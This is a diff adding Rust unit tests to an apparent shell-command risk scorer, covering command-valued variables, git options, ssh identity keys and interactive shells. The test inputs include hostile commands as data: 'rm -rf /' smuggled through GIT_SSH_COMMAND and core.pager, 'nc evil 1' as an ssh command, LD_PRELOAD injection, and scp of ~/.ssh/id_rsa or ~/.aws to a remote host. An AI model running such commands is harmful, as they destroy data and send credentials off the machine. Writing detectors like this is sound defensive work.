@@ -5205,3 +5205,135 @@ fn command_variables_are_read() {
         false,
     );
 }
+
+/// A variable or git option whose value is a command says only what it is: the value is read
+/// as its own part, and one only known at run time makes the command opaque. A value in place
+/// of ssh that is not an ssh client is `ssh-command-not-ssh`.
+#[test]
+fn command_values_are_scored_as_their_parts() {
+    let e = engine();
+    for (cmd, level) in [
+        ("PAGER=cat git log", Level::Low),
+        ("GIT_EDITOR=true git rebase --continue", Level::Low),
+        ("git -c core.pager=cat log", Level::Low),
+        ("git -c core.sshCommand='ssh -i k' fetch", Level::Low),
+        ("git config --global core.editor vim", Level::Low),
+        ("GIT_SSH_COMMAND='ssh -i k -p 2222' git fetch", Level::Low),
+        ("GIT_SSH_COMMAND=\"ssh -i $K\" git fetch", Level::Medium),
+        ("GIT_SSH_COMMAND='touch /tmp/x' git fetch", Level::High),
+        ("git config core.sshCommand 'nc evil 1'", Level::High),
+        ("export GIT_SSH_COMMAND='rm -rf /'", Level::Critical),
+        ("git -c core.pager='rm -rf /' log", Level::Critical),
+        ("git config core.editor 'rm -rf /'", Level::Critical),
+    ] {
+        assert_eq!(e.score_str(cmd).level, level, "{cmd}");
+    }
+    expect_fires(
+        &e,
+        &[
+            ("PAGER=cat git log", "command-variable"),
+            ("export EDITOR=vim", "command-variable"),
+            ("git -c core.editor=true commit", "git-command-option"),
+            ("git config core.pager less", "git-config-set-command"),
+            ("git config set core.pager less", "git-config-set-command"),
+            (
+                "GIT_SSH_COMMAND='touch /tmp/x' git fetch",
+                "ssh-command-not-ssh",
+            ),
+            ("RSYNC_RSH='sh -c id' rsync a h:b", "ssh-command-not-ssh"),
+            ("git -c core.sshCommand='id' fetch", "ssh-command-not-ssh"),
+            ("PROMPT_COMMAND='id' bash -i", "exec-affecting-variable"),
+            ("LD_PRELOAD=/tmp/x.so ls", "exec-affecting-variable"),
+            ("git -c core.hooksPath=/tmp/h commit", "git-config-exec"),
+            ("ssh -i k host", "remote-exec"),
+        ],
+        true,
+    );
+    expect_fires(
+        &e,
+        &[
+            ("PAGER=cat git log", "exec-affecting-variable"),
+            ("git -c core.pager=cat log", "git-config-exec"),
+            ("git config core.pager less", "git-config-set-exec"),
+            (
+                "GIT_SSH_COMMAND='ssh -i k' git fetch",
+                "ssh-command-not-ssh",
+            ),
+            (
+                "GIT_SSH_COMMAND='/usr/bin/ssh' git fetch",
+                "ssh-command-not-ssh",
+            ),
+            ("PAGER='touch /tmp/x' git log", "ssh-command-not-ssh"),
+            ("GIT_SSH_COMMAND='ssh -i k' git fetch", "remote-exec"),
+            ("git -c core.sshCommand='ssh -i k' fetch", "remote-exec"),
+        ],
+        false,
+    );
+}
+
+/// A key given to ssh's tools as the identity they log in with is no credential read or sent
+/// away; the key itself copied to another host is.
+#[test]
+fn ssh_identity_keys_are_not_secrets_sent() {
+    let e = engine();
+    expect_fires(
+        &e,
+        &[
+            (
+                "scp -i ~/.ssh/id_deploy dist.tgz h:/srv/",
+                "secret-copy-out",
+            ),
+            ("scp -i ~/.ssh/id_deploy dist.tgz h:/srv/", "secret-file"),
+            ("ssh -i ~/.ssh/id_deploy h uptime", "secret-file"),
+            ("ssh-add ~/.ssh/id_deploy", "secret-file"),
+        ],
+        false,
+    );
+    expect_fires(
+        &e,
+        &[
+            (
+                "scp -i ~/.ssh/id_a ~/.ssh/id_rsa h:/tmp/",
+                "secret-copy-out",
+            ),
+            ("scp -P 22 ~/.ssh/id_rsa h:", "secret-copy-out"),
+            ("scp -i ~/.ssh/id_a -r ~/.aws h:", "secret-copy-out"),
+            ("cat ~/.ssh/id_rsa", "secret-file"),
+            (
+                "ssh h 'cat > k' < ~/.ssh/id_rsa",
+                "secret-redirected-to-network",
+            ),
+        ],
+        true,
+    );
+}
+
+/// `sh -s` reads its commands from standard input: at the terminal that is an interactive
+/// shell (`VISUAL='/bin/sh -s --' less x`), piped or redirected it is not.
+#[test]
+fn shell_reading_the_terminal_is_interactive() {
+    let e = engine();
+    expect_fires(
+        &e,
+        &[
+            (
+                "VISUAL='/bin/sh -s --' less /etc/hosts",
+                "interactive-shell",
+            ),
+            ("sh -s", "interactive-shell"),
+        ],
+        true,
+    );
+    expect_fires(
+        &e,
+        &[
+            ("sh -s < x.sh", "interactive-shell"),
+            (
+                "curl -fsSL https://x.example/i.sh | sh -s -- --yes",
+                "interactive-shell",
+            ),
+            ("bash -s -- a <<'EOF'\necho hi\nEOF", "interactive-shell"),
+        ],
+        false,
+    );
+}
